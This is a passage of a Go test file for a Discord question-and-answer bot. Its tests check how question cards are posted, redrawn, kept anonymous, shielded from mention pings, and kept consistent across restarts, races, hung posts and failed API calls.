	// The moderators see who asked an anonymous question, even one whose text
	// has the words the attendees' card ends with.
	e.mustAsk(carol, "Who wrote this — anonymous reviewers?", "anonymous", "true")
	e.tr.waitFor(t, "the approved question's card, and the third moderators' card", func() bool {
		_, _, ok1 := e.tr.card("q:1")
		_, _, ok3 := e.tr.card("qm:3")
		return ok1 && ok3
	})
	modCard, _, _ = e.tr.card("qm:3")
	if want := "> Who wrote this — anonymous reviewers?\n— anonymous (asked by Carol, visible to moderators only)"; !strings.HasSuffix(modCard.Content, want) {
		t.Errorf("moderators' card of an anonymous question:\n%s\nwant it to end with\n%s", modCard.Content, want)
	}

	stop()
	if got := e.tr.cards(bot.ChannelQuestions); len(got) != 1 || len(got["q:1"]) != 1 {
		t.Errorf("attendees' cards %v, want only the approved question's, once", got)
	}
	if got := e.tr.cards(bot.ChannelModerators); len(got) != 3 || len(got["qm:1"]) != 1 || len(got["qm:2"]) != 1 || len(got["qm:3"]) != 1 {
		t.Errorf("moderators' cards %v, want one for each question", got)
	}
}

func TestCardLoop(t *testing.T) {
	e := newEnv(t, false)
	ctx := context.Background()
	// Stored while the bot was down, between "Received" and its card.
	down, err := e.db.AddQuestion(ctx, bot.Question{
		SessionID: "panel", Text: "Asked just before the crash", AskerID: carol.ID, AskerName: carol.Name,
		Status: bot.QuestionOpen, AskedAt: start.Add(-time.Minute),
	})
	if err != nil {
		t.Fatal(err)
	}
	stop := e.run(e.b)
	e.tr.waitFor(t, "the card of the question stored while down", func() bool { _, _, ok := e.tr.card(fmt.Sprint("q:", down.ID)); return ok })

	mentions := "@everyone look: <@&123> and <@456> should answer this"
	pinging := e.mustAsk(alice, mentions)
	anon := e.mustAsk(bob, "An anonymous question for the panel", "anonymous", "true")
	e.tr.waitFor(t, "three cards", func() bool { return len(e.tr.cards(bot.ChannelQuestions)) == 3 })

	card, _, _ := e.tr.card(fmt.Sprint("q:", pinging))
	if !strings.Contains(card.Content, "\n> "+mentions+"\n— Alice") || card.PingRole || card.Channel != bot.ChannelQuestions {
		t.Errorf("card of a question with mentions: %+v; want the mentions as text, PingRole false, in %s", card, bot.ChannelQuestions)
	}
	card, _, _ = e.tr.card(fmt.Sprint("q:", anon))
	if !strings.HasSuffix(card.Content, "\n— anonymous") || strings.Contains(card.Content, bob.Name) {
		t.Errorf("card of an anonymous question: %q", card.Content)
	}
	for _, c := range e.tr.cards(bot.ChannelQuestions) {
		if len(c) != 1 {
			t.Errorf("cards posted: %v, want one each", e.tr.cards(bot.ChannelQuestions))
		}
	}

	// A vote updates the card in the reply; a status change redraws it by Edit.
	if r := e.press(carol, "vote", pinging); r.Update == nil {
		t.Errorf("vote: %q, want an update", r.Content)
	}
	redrawn := func(id int64, state string) func() bool {
		_, msgID, _ := e.tr.card(fmt.Sprint("q:", id))
		return func() bool {
			ed, ok := e.tr.lastEdit(msgID)
			return ok && ed.channelID == "chan-"+bot.ChannelQuestions && strings.Contains(ed.m.Content, state)
		}
	}
	e.cmd(mod, "questions answered", "id", fmt.Sprint(down.ID))
	e.tr.waitFor(t, "the answered question's card redrawn", redrawn(down.ID, "✅ answered"))
	_, msgID, _ := e.tr.card(fmt.Sprint("q:", down.ID))
	if ed, _ := e.tr.lastEdit(msgID); !ed.m.Buttons[0].Disabled {
		t.Errorf("answered card's vote button is enabled: %+v", ed.m.Buttons)
	}
	e.cmd(mod, "questions next") // the voted one
	e.tr.waitFor(t, "the card on stage redrawn", redrawn(pinging, "🎙️ **on stage now**"))
	e.cmd(mod, "questions next")
	e.tr.waitFor(t, "the previous on-stage card redrawn as answered", redrawn(pinging, "✅ answered"))
	e.tr.waitFor(t, "the next card on stage redrawn", redrawn(anon, "🎙️ **on stage now**"))
	stop()

	posted := e.tr.cards(bot.ChannelQuestions)
	for _, q := range e.all() {
		ids := posted[fmt.Sprint("q:", q.ID)]
		if len(ids) != 1 || q.CardMessageID != ids[0] || q.CardChannelID != "chan-"+bot.ChannelQuestions {
			t.Errorf("question %d: posted as %v, recorded as %s/%s; want one card, recorded", q.ID, ids, q.CardChannelID, q.CardMessageID)
		}
	}

	// After a restart the bot does not post the cards again. It looks at the
	// questions oldest first, so once the new question's card is out, it has
	// seen the others.
	e.b = e.newBot()
	stop = e.run(e.b)
	fresh := e.mustAsk(carol, "A question after the restart")
	e.tr.waitFor(t, "the new question's card", func() bool { _, _, ok := e.tr.card(fmt.Sprint("q:", fresh)); return ok })
	stop()
	for nonce, ids := range e.tr.cards(bot.ChannelQuestions) {
		if len(ids) != 1 {
			t.Errorf("%s posted %d times across a restart", nonce, len(ids))
		}
	}
}

func TestCardPostedAtShutdownIsRecorded(t *testing.T) {
	e := newEnv(t, false)
	id := e.mustAsk(alice, "Asked as the bot stops")
	ctx, cancel := context.WithCancel(context.Background())
	// The bot is told to stop while the card is being posted.
	e.tr.onPost = func(m bot.Message) {
		if m.Channel == bot.ChannelQuestions {
			cancel()
		}
	}
	if err := e.b.Run(ctx, bot.RunOptions{}); !stoppedCleanly(err) {
		t.Fatal(err)
	}
	if q := e.get(id); q.CardMessageID == "" {
		t.Errorf("card posted at shutdown was not recorded: the next start would post it again")
	}
}

// hookedStore runs a hook, once, right after Questions has read the questions.
type hookedStore struct {
	*sqlite.DB
	mu        sync.Mutex
	afterList func()
}

func (h *hookedStore) Questions(ctx context.Context, f bot.QuestionFilter) ([]bot.Question, error) {
	qs, err := h.DB.Questions(ctx, f)
	h.mu.Lock()
	hook := h.afterList
	h.afterList = nil
	h.mu.Unlock()
	if hook != nil {
		hook()
	}
	return qs, err
}

// A status change that lands while the card loop is between reading the
// questions and acting on them is still drawn: by the next round, from the
// question as changed.
func TestCardRedrawNotLostToARace(t *testing.T) {
	e := newEnv(t, false)
	hooked := &hookedStore{DB: e.db}
	e.qs = hooked
	e.b = e.newBot()
	e.run(e.b)
	id := e.mustAsk(alice, "A question to be answered")
	e.tr.waitFor(t, "the card", func() bool { _, _, ok := e.tr.card(fmt.Sprint("q:", id)); return ok })
	_, msgID, _ := e.tr.card(fmt.Sprint("q:", id))

	hooked.mu.Lock()
	hooked.afterList = func() {
		if r := e.cmd(mod, "questions answered", "id", fmt.Sprint(id)); r.Content != fmt.Sprintf("Question #%d is now answered.", id) {
			t.Errorf("answered: %q", r.Content)
		}
	}
	hooked.mu.Unlock()
	e.mustAsk(bob, "A question that wakes the card loop")
	e.tr.waitFor(t, "the card redrawn as answered", func() bool {
		ed, ok := e.tr.lastEdit(msgID)
		return ok && strings.Contains(ed.m.Content, "✅ answered")
	})
}

// TestAsksNotBlockedByAHungCardPost (issue 13, "cards without blocking asks"):
// while the card loop is stuck in a post to Discord (a slow or hanging API),
// /ask and votes are still answered, each after its row is stored; once the
// post returns, every question gets its card.
func TestAsksNotBlockedByAHungCardPost(t *testing.T) {
	e := newEnv(t, false)
	entered := make(chan struct{}, 1)
	release := make(chan struct{})
	var once sync.Once
	e.tr.onPost = func(m bot.Message) {
		if m.Channel == bot.ChannelQuestions {
			select {
			case entered <- struct{}{}:
			default:
			}
			<-release
		}
	}
	e.run(e.b)
	t.Cleanup(func() { once.Do(func() { close(release) }) }) // before the bot stops (cleanups run last first)
	first := e.mustAsk(alice, "The question whose card hangs")
	select {
	case <-entered:
	case <-time.After(10 * time.Second):
		t.Fatal("the card loop never posted the first card")
	}

	done := make(chan []int64, 1)
	go func() {
		var ids []int64
		for i, u := range []bot.User{bob, carol, dave, mod} {
			if id, ok := receivedID(e.ask(u, fmt.Sprintf("Asked while a card post hangs, number %d", i))); ok {
				ids = append(ids, id)
			}
		}
		if r := e.press(bob, "vote", first); r.Update == nil {
			ids = append(ids, -1)
		}
		done <- ids
	}()
	var ids []int64
	select {
	case ids = <-done:
	case <-time.After(10 * time.Second):
		t.Fatal("/ask waited behind a hung card post")
	}
	if len(ids) != 4 || slices.Contains(ids, -1) {
		t.Fatalf("answered while the post hung: %v, want 4 questions received and the vote counted", ids)
	}
	if got := e.get(first).Votes; got != 1 {
		t.Errorf("votes of the first question: %d, want 1", got)
	}
	once.Do(func() { close(release) })
	e.tr.waitFor(t, "every card", func() bool { return len(e.tr.cards(bot.ChannelQuestions)) == 5 })
}

// TestCardsConvergeAfterFailures: a card whose post or redraw failed (after
// the transport's retries) is tried again, with backoff on the bot's clock,
// until it shows what the database holds; nothing else has to happen in the
// meantime (issue 19 item 5). Before, a failed post waited for the next
// question, and a failed redraw was forgotten.
func TestCardsConvergeAfterFailures(t *testing.T) {
	e := newEnv(t, false)
	e.run(e.b)
	// until advances the clock a minute at a time, which fires any retry
	// pending, until cond holds; it gives up after 10 s of real time.
	until := func(what string, cond func() bool) {
		t.Helper()
		deadline := time.Now().Add(10 * time.Second)
		for !cond() {
			if time.Now().After(deadline) {
				t.Fatalf("no %s: %d calls failed, then nothing converged", what, e.tr.failed)
			}
			e.clock.Advance(time.Minute)
			time.Sleep(5 * time.Millisecond)
		}
	}
	e.tr.mu.Lock()
	e.tr.fail = 3
	e.tr.mu.Unlock()
	id := e.mustAsk(alice, "Does the card come back after an outage?")
	e.tr.waitFor(t, "three failed posts", func() bool {
		e.tr.mu.Lock()
		defer e.tr.mu.Unlock()
		return e.tr.failed >= 1
	})
	nonce := fmt.Sprintf("q:%d", id)
	var msgID string
	until("card posted after 3 failures", func() bool {
		_, m, ok := e.tr.card(nonce)
		msgID = m
		return ok && e.get(id).CardMessageID == m
	})

	e.tr.mu.Lock()
	e.tr.fail = 3
	e.tr.mu.Unlock()
	if r := e.cmd(mod, "questions next"); !strings.Contains(r.Content, "On stage") {
		t.Fatalf("/questions next: %q", r.Content)
	}
	until("card redrawn on stage after 3 failed edits", func() bool {
		ed, ok := e.tr.lastEdit(msgID)
		return ok && e.get(id).Status == bot.QuestionOnStage && strings.Contains(cardText(ed.m), "on stage")
	})
}

// cardText is all a card says, lower-case.
func cardText(m bot.Message) string {
	var b strings.Builder
	b.WriteString(m.Content)
	for _, em := range m.Embeds {
		b.WriteString(" " + em.Title + " " + em.Description + " " + em.Footer)
		for _, f := range em.Fields {
			b.WriteString(" " + f.Name + " " + f.Value)
		}
	}
	return strings.ToLower(b.String())
}
